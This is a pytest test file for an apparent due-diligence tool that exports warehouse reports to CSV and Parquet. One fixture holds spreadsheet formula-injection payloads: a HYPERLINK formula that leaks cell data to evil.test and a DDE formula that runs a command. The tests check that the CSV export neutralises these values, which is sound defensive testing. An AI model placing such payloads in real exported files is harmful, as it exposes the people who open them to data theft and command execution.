"""Exports: one file per report, same rows as the tables, readable by any CSV or Parquet reader."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import duckdb
import pytest

from diligence.analytics.models import ModelsResult, build_models
from diligence.errors import WarehouseNotReadyError
from diligence.report.export import REPORTS, ExportedFile, export_reports
from diligence.warehouse import Warehouse
from tests.files import csv_columns, csv_rows, parquet_columns, parquet_rows

from .helpers import rows, scalar
from .rawdb import AS_OF, connection, create_raw, field, form, insert, questionnaire


def export_of(warehouse: Path, out_dir: Path, fmt: str, **options: Any) -> list[ExportedFile]:
    """The reports of the warehouse file, read through its session as the steps do."""
    with Warehouse(warehouse).session(read_only=True, memory_limit=None) as con:
        return export_reports(con, out_dir, fmt, label=str(warehouse), **options)  # type: ignore[arg-type]


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_exports_match_tables(clean_warehouse: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / "reports"
    exported = export_of(clean_warehouse, out, fmt)  # type: ignore[arg-type]
    assert [e.report for e in exported] == list(REPORTS)
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{r}.{fmt}" for r in REPORTS)
    for file in exported:
        assert file.path == out / f"{file.report}.{fmt}"
        table_rows = scalar(clean_warehouse, f"select count(*) from analytics.{file.report}")
        assert file.rows == table_rows
        read, columns_of = (csv_rows, csv_columns) if fmt == "csv" else (parquet_rows, parquet_columns)
        assert len(read(file.path)) == table_rows
        columns = [
            r["column_name"]
            for r in rows(
                clean_warehouse,
                "select column_name from information_schema.columns where table_schema = "
                "'analytics' and table_name = ? order by ordinal_position",
                [file.report],
            )
        ]
        assert columns_of(file.path) == columns


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_a_folder_named_with_a_quote(clean_warehouse: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / "O'Brien's reports"
    exported = export_of(clean_warehouse, out, fmt)
    for file in exported:
        assert file.path.parent == out and file.path.exists()
        assert len(csv_rows(file.path) if fmt == "csv" else parquet_rows(file.path)) == file.rows


def test_csv_has_header_and_readable_lists(clean_warehouse: Path, tmp_path: Path) -> None:
    export_of(clean_warehouse, tmp_path, "csv")
    text = (tmp_path / "connections.csv").read_text(encoding="utf-8")
    assert text.splitlines()[0].startswith("namespace_company_id,company_id,company_name,is_own_company,")
    connections = {row["company_id"]: row for row in csv_rows(tmp_path / "connections.csv")}
    assert json.loads(connections["c1"]["given_company_type_ids"]) == ["t1", "t2"]
    assert connections["c2"]["given_company_type_ids"] == "[]"
    answers = {(row["company_id"], row["field_id"]): row for row in csv_rows(tmp_path / "answers.csv")}
    size = answers["c1", "size"]
    assert (size["answer_text"], json.loads(size["selected_option_ids"])) == ("Large", ["o1"])
    assert answers["c1", "certs"]["selected_option_ids"] == ""  # NULL: an empty cell


def test_csv_lists_with_the_separator_stay_whole(hostile_warehouse: Path, tmp_path: Path) -> None:
    export_of(hostile_warehouse, tmp_path / "csv", "csv")
    export_of(hostile_warehouse, tmp_path / "parquet", "parquet")
    (csv_row,) = [row for row in csv_rows(tmp_path / "csv" / "answers.csv") if row["field_id"] == "q"]
    assert json.loads(csv_row["selected_option_values"]) == ["A; B", "C"]
    assert json.loads(csv_row["selected_option_ids"]) == ["o1", "o2"]
    (parquet_row,) = [row for row in parquet_rows(tmp_path / "parquet" / "answers.parquet")
                      if row["field_id"] == "q"]
    assert parquet_row["selected_option_values"] == ["A; B", "C"]


def test_parquet_keeps_lists(clean_warehouse: Path, tmp_path: Path) -> None:
    export_of(clean_warehouse, tmp_path, "parquet")
    (acme,) = [row for row in parquet_rows(tmp_path / "connections.parquet") if row["company_id"] == "c1"]
    assert acme["given_company_type_ids"] == ["t1", "t2"]


def test_export_replaces_files_and_leaves_no_temporaries(
    clean_warehouse: Path, tmp_path: Path
) -> None:
    out = tmp_path / "reports"
    out.mkdir()
    (out / "answers.csv").write_text("stale", encoding="utf-8")
    export_of(clean_warehouse, out, "csv")
    export_of(clean_warehouse, out, "csv")
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{r}.csv" for r in REPORTS)
    assert (out / "answers.csv").read_text(encoding="utf-8") != "stale"


def test_export_of_empty_models(empty_build: tuple[Path, ModelsResult], tmp_path: Path) -> None:
    warehouse = empty_build[0]
    for fmt in ("csv", "parquet"):
        exported = export_of(warehouse, tmp_path / fmt, fmt)  # type: ignore[arg-type]
        assert {e.rows for e in exported} == {0}
    assert csv_columns(tmp_path / "csv" / "answers_wide.csv") == [
        "namespace_company_id",
        "company_id",
        "company_name",
        "is_own_company",
        "company_type_id",
        "response_sha256",
    ]


def test_export_needs_built_models(tmp_path: Path) -> None:
    duckdb.connect(str(tmp_path / "raw-only.duckdb")).close()
    with pytest.raises(WarehouseNotReadyError, match="run `diligence models --warehouse .*` first"):
        export_of(tmp_path / "raw-only.duckdb", tmp_path / "out", "csv")
    with pytest.raises(ValueError):
        export_of(tmp_path / "raw-only.duckdb", tmp_path / "out", "xlsx")  # type: ignore[arg-type]


HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Open") AB'
FORMULA = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Built from counterparty values that a spreadsheet would run, and a checkbox whose
    option values hold the CSV list separator (read-only)."""
    path = create_raw(tmp_path_factory.mktemp("hostile") / "warehouse.duckdb")
    insert(path, "connections", [connection("ns", "c1", HYPERLINK, received=["t1"])])
    fields = [
        field("cmd", "Input", "Cmd", {"value": FORMULA}),
        field("plus", "Input", "Plus", {"value": "+1+1"}),
        field("tab", "Input", "Tab", {"value": "\t@SUM(1)"}),
        field("plain", "Input", "Plain", {"value": "a = b"}),
        field(
            "q",
            "Checkbox",
            "Markets",
            {"options": [{"id": "o1", "value": "A; B"}, {"id": "o2", "value": "C"}]},
            [{"id": "o1", "value": "A; B"}, {"id": "o2", "value": "C"}],
        ),
    ]
    insert(path, "questionnaires", [questionnaire("ns", "c1", "t1", [form("f", "F", *fields)])])
    build_models(path, as_of=AS_OF)
    return path


def test_csv_neutralises_formula_triggers_and_parquet_keeps_values(
    hostile_warehouse: Path, tmp_path: Path
) -> None:
    path = hostile_warehouse
    export_of(path, tmp_path / "csv", "csv")
    export_of(path, tmp_path / "parquet", "parquet")
    answers = csv_rows(tmp_path / "csv" / "answers.csv")
    texts = {row["field_id"]: row["answer_text"] for row in answers}
    assert texts == {"cmd": "'" + FORMULA, "plus": "'+1+1", "tab": "'\t@SUM(1)", "plain": "a = b",
                     "q": "A; B; C"}
    assert [row["company_name"] for row in csv_rows(tmp_path / "csv" / "connections.csv")] == ["'" + HYPERLINK]
    assert all(row["field_position"].isdigit() for row in answers)  # numbers stay numbers
    parquet = parquet_rows(tmp_path / "parquet" / "answers.parquet")
    assert {row["field_id"]: row["answer_text"] for row in parquet}["cmd"] == FORMULA
    connections = parquet_rows(tmp_path / "parquet" / "connections.parquet")
    assert [row["company_name"] for row in connections] == [HYPERLINK]


def test_csv_raw_writes_values_as_received(hostile_warehouse: Path, tmp_path: Path) -> None:
    path = hostile_warehouse
    export_of(path, tmp_path, "csv", csv_raw=True)
    answers = csv_rows(tmp_path / "answers.csv")
    assert {row["field_id"]: row["answer_text"] for row in answers}["cmd"] == FORMULA
